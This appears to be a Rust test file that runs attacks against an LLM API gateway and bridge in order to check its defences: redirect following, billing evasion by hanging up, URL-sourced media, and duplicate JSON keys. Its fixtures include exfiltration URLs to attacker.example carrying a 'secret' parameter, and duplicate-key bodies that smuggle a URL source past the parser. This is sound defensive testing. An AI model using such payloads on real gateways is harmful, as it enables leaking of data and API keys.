//! Attacks on the money and on what leaves the host, through the real gateway and bridge
//! processes against `fakellm`: hanging up before the response head (the budget must still see
//! what upstream billed), media with URL sources (refused before any upstream call, and when
//! allowed the overshoot stays within the ledger's bound), duplicate keys (refused at any depth,
//! since untouched members go upstream as the client's bytes), and upstream redirects (never
//! followed, so no key, token or prompt reaches another listener).

#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::path::Path;
use std::time::{Duration, Instant};

use agentbox_tests::harness::{BridgeProcess, FakeLlm, GatewayProcess, UnixResponse, unix_request};
use serde_json::{Value, json};

const TOKEN: &str = "task-token-0123456789abcdef";
const BRIDGE_TOKEN: &str = "bridge-token-for-attack-tests";
const ANTHROPIC_KEY: &str = "sk-ant-attack-test-key";

/// A bridge whose remote `claude` goes to `provider_url` as Anthropic, with the test key.
fn bridge(provider_url: &str) -> BridgeProcess {
    BridgeProcess::start(
        &format!(
            r#"
[bridge]
listen = "127.0.0.1:0"

[models.claude]
backend = "remote"
provider = "anthropic"
base_url = "{provider_url}"
upstream_model = "claude-upstream"
key_env = "ATTACK_ANTHROPIC_KEY"
"#
        ),
        &[
            ("AGENTBOX_BRIDGE_TOKEN", BRIDGE_TOKEN),
            ("ATTACK_ANTHROPIC_KEY", ANTHROPIC_KEY),
        ],
    )
    .unwrap()
}

/// A gateway whose `local` model goes to `fake` (as Ollama) and whose remote `claude` goes to
/// `bridge_url`; `extra` is appended to `[models.local]`.
fn gateway(fake: &FakeLlm, bridge_url: &str, extra: &str) -> GatewayProcess {
    let config = format!(
        r#"
[gateway]
ollama_url = "{fake}"
bridge_url = "{bridge_url}"
max_body_mb = 8

[models.claude]
backend = "remote"
provider = "anthropic"
base_url = "{fake}"
upstream_model = "claude-upstream"
key_env = "ATTACK_ANTHROPIC_KEY"

[models.local]
backend = "ollama"
upstream_model = "local-upstream"
{extra}
"#,
        fake = fake.base_url(),
    );
    GatewayProcess::start(&config, &[("AGENTBOX_BRIDGE_TOKEN", BRIDGE_TOKEN)]).unwrap()
}

async fn open(gw: &GatewayProcess, tid: &str, model: &str, budget: Value) {
    let r = gw.open_task(tid, model, TOKEN, budget).await.unwrap();
    assert_eq!(r.status, 201, "{}", r.text());
}

async fn send(sock: &Path, body: &Value) -> UnixResponse {
    send_text(sock, body.to_string()).await
}

fn error_type(body: &[u8]) -> String {
    let v: Value = serde_json::from_slice(body).unwrap_or(Value::Null);
    v["error"]["type"].as_str().unwrap_or("").to_owned()
}

fn user(content: Value) -> Value {
    json!({"model": "x", "max_tokens": 100, "messages": [{"role": "user", "content": content}]})
}

/// Polls `task` until `done` holds, for at most 20 seconds.
async fn wait_for(gw: &GatewayProcess, tid: &str, done: impl Fn(&Value) -> bool) -> Value {
    let deadline = Instant::now() + Duration::from_secs(20);
    loop {
        let v = gw.task(tid).await.unwrap();
        if done(&v) {
            return v;
        }
        assert!(Instant::now() < deadline, "never reached: {v}");
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
}

// ---- 9: redirects ------------------------------------------------------------------------

/// A fakellm that answers every request with `307` to `target`.
fn redirector(target: &FakeLlm) -> FakeLlm {
    FakeLlm::scripted(&json!({"fallback": {
        "error": {"status": 307, "body": {}},
        "headers": {"location": format!("{}/v1/messages", target.base_url())}
    }}))
    .unwrap()
}

#[tokio::test]
async fn upstream_redirects_are_never_followed() {
    // The bridge's provider call (x-api-key) is redirected to another listener.
    let elsewhere = FakeLlm::scripted(&json!({"fallback": {"text": "stolen"}})).unwrap();
    let provider = redirector(&elsewhere);
    let bridge = bridge(&provider.base_url());
    let r = reqwest::Client::new()
        .post(format!("{}/v1/messages", bridge.base_url()))
        .bearer_auth(BRIDGE_TOKEN)
        .json(&json!({"model": "claude", "max_tokens": 10, "messages": [{"role": "user", "content": "hi"}]}))
        .send()
        .await
        .unwrap();
    let status = r.status().as_u16();
    let body = r.text().await.unwrap();
    assert_eq!(
        provider.requests().unwrap().len(),
        1,
        "the provider was called"
    );
    assert!(
        elsewhere.requests().unwrap().is_empty(),
        "the redirect was followed: {:?}",
        elsewhere.requests().unwrap()
    );
    assert_eq!(
        status, 502,
        "a redirect is a bad gateway, not an answer: {body}"
    );
    assert!(!body.contains(&elsewhere.base_url()), "{body}");

    // The gateway's bridge call (bridge token) is redirected to another listener.
    let fake = FakeLlm::scripted(&json!({"fallback": {"text": "x"}})).unwrap();
    let bridge_redirect = redirector(&elsewhere);
    let gw = gateway(&fake, &bridge_redirect.base_url(), "");
    open(&gw, "redir", "claude", json!({})).await;
    let r = send(&gw.task_socket("redir"), &user(json!("hi"))).await;
    assert_eq!(bridge_redirect.requests().unwrap().len(), 1);
    assert!(
        elsewhere.requests().unwrap().is_empty(),
        "the gateway followed a redirect: {:?}",
        elsewhere.requests().unwrap()
    );
    assert_eq!(r.status, 502, "{}", r.text());
    assert_eq!(error_type(&r.body), "api_error");
    let view = wait_for(&gw, "redir", |v| v["in_flight"] == 0).await;
    assert_eq!(view["usage"]["total_tokens"], 0, "{view}");
}

// ---- 4: hanging up before the response head ------------------------------------------------

/// Sends `body` on the task socket and hangs up after `after`, before any answer arrives.
async fn send_and_hang_up(sock: &Path, body: &Value, after: Duration) {
    use tokio::io::AsyncWriteExt;
    let mut s = tokio::net::UnixStream::connect(sock).await.unwrap();
    let body = body.to_string();
    s.write_all(
        format!(
            "POST /v1/messages HTTP/1.1\r\nhost: x\r\nauthorization: Bearer {TOKEN}\r\n\
             content-type: application/json\r\ncontent-length: {}\r\n\r\n{body}",
            body.len()
        )
        .as_bytes(),
    )
    .await
    .unwrap();
    tokio::time::sleep(after).await;
    drop(s);
}

#[tokio::test]
async fn hanging_up_before_the_head_is_billed_what_upstream_billed() {
    // Every answer costs 40,500 tokens upstream and takes 1.5 s to start.
    let (input, output) = (40_000u64, 500u64);
    let fake = FakeLlm::scripted(&json!({"fallback": {
        "text": "an expensive answer",
        "usage": {"input_tokens": input, "output_tokens": output},
        "delay_ms": 1500
    }}))
    .unwrap();
    let gw = gateway(&fake, "http://127.0.0.1:9", "");
    open(&gw, "hang", "local", json!({"tokens": 10_000})).await;
    let sock = gw.task_socket("hang");
    for i in 0..8 {
        let mut body = user(json!("summarize the repository"));
        body["stream"] = json!(i % 2 == 0);
        send_and_hang_up(&sock, &body, Duration::from_millis(200)).await;
    }
    let view = wait_for(&gw, "hang", |v| v["in_flight"] == 0).await;
    let upstream = fake
        .requests()
        .unwrap()
        .iter()
        .filter(|r| r["path"] == "/v1/messages")
        .count() as u64;
    assert!(upstream >= 1, "nothing reached fakellm");
    let spent = view["usage"]["total_tokens"].as_u64().unwrap();
    assert!(
        spent >= upstream * (input + output),
        "fakellm billed {upstream} x {} tokens, the task was charged {spent}: {view}",
        input + output
    );
    // The budget now stops the task before any upstream call.
    let r = send(&sock, &user(json!("again"))).await;
    assert_eq!(r.status, 403, "{}", r.text());
    assert_eq!(error_type(&r.body), "permission_error");
    assert_eq!(fake.requests().unwrap().len() as u64, upstream);
}

/// Hanging up does not give a task more model calls than its connections: an answer whose
/// client left before its head is still read (to bill it), so it still counts against
/// `max_connections_per_task`. Without that, a task that asks and hangs up at once ran any
/// number of calls upstream while holding no connection.
#[tokio::test]
async fn hanging_up_does_not_escape_the_connection_limit() {
    let fake = FakeLlm::scripted(&json!({"fallback": {
        "text": "slow", "usage": {"input_tokens": 10, "output_tokens": 5}, "delay_ms": 3000
    }}))
    .unwrap();
    let gw = GatewayProcess::start(
        &format!(
            "[gateway]\nollama_url = \"{}\"\nmax_connections_per_task = 2\n\n\
             [models.local]\nbackend = \"ollama\"\nupstream_model = \"local-upstream\"\n",
            fake.base_url()
        ),
        &[],
    )
    .unwrap();
    open(&gw, "left", "local", json!({})).await;
    let sock = gw.task_socket("left");
    for _ in 0..2 {
        send_and_hang_up(&sock, &user(json!("hi")), Duration::from_millis(100)).await;
    }
    wait_for(&gw, "left", |v| v["in_flight"] == 2).await;
    // Both calls are still upstream (fakellm answers after 3 s); no connection is open.
    let r = send(&sock, &user(json!("a third"))).await;
    assert_eq!(r.status, 429, "{}", r.text());
    assert_eq!(error_type(&r.body), "rate_limit_error");
    let view = gw.task("left").await.unwrap();
    assert_eq!(
        view["in_flight"], 2,
        "the refused call was admitted: {view}"
    );
    // Once they are read and billed, the task has its calls back.
    wait_for(&gw, "left", |v| v["in_flight"] == 0).await;
    let r = send(&sock, &user(json!("again"))).await;
    assert_eq!(r.status, 200, "{}", r.text());
    let view = wait_for(&gw, "left", |v| v["usage"]["requests"] == 3).await;
    assert_eq!(view["usage"]["input_tokens"], 30, "{view}");
    assert_eq!(fake.requests().unwrap().len(), 3);
}

// ---- 5: media with URL sources --------------------------------------------------------------

/// A user turn with a URL PDF whose URL carries "workspace data".
fn url_pdf(i: usize) -> Value {
    user(json!([
        {"type": "document", "source": {"type": "url", "url": format!("https://attacker.example/{i}?secret=c2VjcmV0")}},
        {"type": "text", "text": "summarize"}
    ]))
}

#[tokio::test]
async fn url_sources_are_refused_before_any_upstream_call() {
    let fake = FakeLlm::scripted(&json!({"fallback": {
        "text": "fetched", "usage": {"input_tokens": 100_000, "output_tokens": 100}, "delay_ms": 300
    }}))
    .unwrap();
    let gw = gateway(&fake, "http://127.0.0.1:9", "");
    open(&gw, "url", "local", json!({"tokens": 10_000})).await;
    let sock = gw.task_socket("url");
    let answers =
        futures_util::future::join_all((0..20).map(|i| send_owned(sock.clone(), url_pdf(i)))).await;
    for r in &answers {
        assert_eq!(r.status, 400, "{}", r.text());
        assert_eq!(error_type(&r.body), "invalid_request_error");
    }
    // Nested in a tool result too.
    let nested = user(
        json!([{"type": "tool_result", "tool_use_id": "t", "content": [
        {"type": "image", "source": {"type": "url", "url": "https://attacker.example/i.png"}}]}]),
    );
    assert_eq!(send(&sock, &nested).await.status, 400);
    assert!(
        fake.requests().unwrap().is_empty(),
        "URL-sourced content reached the model: {:?}",
        fake.requests().unwrap()
    );
    let view = gw.task("url").await.unwrap();
    assert_eq!(view["usage"]["total_tokens"], 0, "{view}");

    // The bridge refuses them too, before its provider sees anything.
    let bridge = bridge(&fake.base_url());
    let mut body = url_pdf(0);
    body["model"] = json!("claude");
    let r = reqwest::Client::new()
        .post(format!("{}/v1/messages", bridge.base_url()))
        .bearer_auth(BRIDGE_TOKEN)
        .json(&body)
        .send()
        .await
        .unwrap();
    assert_eq!(r.status().as_u16(), 400);
    assert_eq!(
        error_type(&r.bytes().await.unwrap()),
        "invalid_request_error"
    );
    assert!(fake.requests().unwrap().is_empty());
}

// ---- duplicate keys ------------------------------------------------------------------------

/// `POST /v1/messages` with the task token, the body as written (a duplicate key stays one).
async fn send_text(sock: &Path, body: String) -> UnixResponse {
    let auth = format!("Bearer {TOKEN}");
    unix_request(
        sock,
        "POST",
        "/v1/messages",
        &[
            ("content-type", "application/json"),
            ("anthropic-version", "2023-06-01"),
            ("authorization", auth.as_str()),
        ],
        body,
    )
    .await
    .unwrap()
}

/// Bodies a parser keeping the first of two duplicate keys would read differently from one
/// keeping the last: the sanitizer's output copies untouched members as their raw text, so it
/// must refuse them all.
fn duplicate_bodies(model: &str) -> [String; 3] {
    [
        format!(
            r#"{{"model":"{model}","max_tokens":100,"messages":[{{"role":"user","content":"hi"}}],"model":"{model}"}}"#
        ),
        format!(
            r#"{{"model":"{model}","max_tokens":100,"messages":[{{"role":"user","content":"hi"}}],"tools":[{{"name":"web_search","type":"web_search_20250305","type":"custom","input_schema":{{}}}}]}}"#
        ),
        format!(
            r#"{{"model":"{model}","max_tokens":100,"messages":[{{"role":"user","content":[{{"type":"tool_result","tool_use_id":"t","content":[{{"type":"image","source":{{"type":"url","url":"https://attacker.example/?d=secret"}},"source":{{"type":"base64","media_type":"image/png","data":"AAAA"}}}}]}}]}}]}}"#
        ),
    ]
}

#[tokio::test]
async fn duplicate_keys_are_refused_before_any_upstream_call() {
    let fake = FakeLlm::scripted(&json!({"fallback": {"text": "ok"}})).unwrap();
    // URL sources allowed: the duplicate `source` must be refused for being a duplicate.
    let gw = gateway(&fake, "http://127.0.0.1:9", "allow_url_sources = true");
    open(&gw, "dups", "local", json!({"tokens": 10_000})).await;
    let sock = gw.task_socket("dups");
    for body in duplicate_bodies("x") {
        let r = send_text(&sock, body.clone()).await;
        assert_eq!(r.status, 400, "{body}: {}", r.text());
        assert_eq!(error_type(&r.body), "invalid_request_error");
        assert!(r.text().contains("duplicate key"), "{}", r.text());
    }
    assert!(
        fake.requests().unwrap().is_empty(),
        "a body with a duplicate key reached the model: {:?}",
        fake.requests().unwrap()
    );
    // The same requests without the duplicate pass, with their members as sent.
    let r = send_text(
        &sock,
        r#"{"model":"x","max_tokens":100,"zz_unknown":{"keep":[1,2.5,"é"]},"messages":[{"role":"user","content":"hi"}]}"#.into(),
    )
    .await;
    assert_eq!(r.status, 200, "{}", r.text());
    let seen = fake.requests().unwrap();
    assert_eq!(seen.len(), 1);
    assert_eq!(seen[0]["body"]["model"], "local-upstream", "{}", seen[0]);
    assert_eq!(
        seen[0]["body"]["zz_unknown"],
        json!({"keep": [1, 2.5, "é"]})
    );

    // The bridge's Anthropic passthrough refuses them too.
    let provider = FakeLlm::scripted(&json!({"fallback": {"text": "ok"}})).unwrap();
    let bridge = bridge(&provider.base_url());
    for body in duplicate_bodies("claude") {
        let r = reqwest::Client::new()
            .post(format!("{}/v1/messages", bridge.base_url()))
            .bearer_auth(BRIDGE_TOKEN)
            .header("content-type", "application/json")
            .body(body.clone())
            .send()
            .await
            .unwrap();
        assert_eq!(r.status().as_u16(), 400, "{body}");
        assert_eq!(
            error_type(&r.bytes().await.unwrap()),
            "invalid_request_error"
        );
    }
    assert!(provider.requests().unwrap().is_empty());
}

async fn send_owned(sock: std::path::PathBuf, body: Value) -> UnixResponse {
    send(&sock, &body).await
}

#[tokio::test]
async fn allowed_url_sources_overshoot_at_most_what_is_in_flight() {
    // Each URL PDF bills 150,100 tokens upstream, more than any local estimate can know; the
    // gateway reserves at least 100,000 input tokens plus max_tokens (100) for it.
    let billed = 150_100u64;
    let least_reservation = 100_000 + 100;
    let budget = 250_000u64;
    let fake = FakeLlm::scripted(&json!({"fallback": {
        "text": "fetched", "usage": {"input_tokens": 150_000, "output_tokens": 100}, "delay_ms": 500
    }}))
    .unwrap();
    let gw = gateway(&fake, "http://127.0.0.1:9", "allow_url_sources = true");
    open(&gw, "urlok", "local", json!({"tokens": budget})).await;
    let sock = gw.task_socket("urlok");
    let answers =
        futures_util::future::join_all((0..20).map(|i| send_owned(sock.clone(), url_pdf(i)))).await;
    let view = wait_for(&gw, "urlok", |v| v["in_flight"] == 0).await;
    let forwarded = fake.requests().unwrap().len() as u64;
    let ok = answers.iter().filter(|r| r.status == 200).count() as u64;
    assert!(forwarded >= 1, "nothing was forwarded: {view}");
    assert_eq!(ok, forwarded, "{view}");
    for r in answers.iter().filter(|r| r.status != 200) {
        assert_eq!(r.status, 403, "{}", r.text());
    }
    // Only what fits in the budget whole is ever in flight at once, and nothing is admitted
    // once the spend passes it.
    assert!(
        forwarded <= budget / least_reservation,
        "{forwarded} forwarded: {view}"
    );
    let spent = view["usage"]["total_tokens"].as_u64().unwrap();
    assert_eq!(spent, forwarded * billed, "{view}");
    assert!(
        spent <= budget + forwarded * (billed - least_reservation),
        "spent {spent} of {budget}: {view}"
    );
}
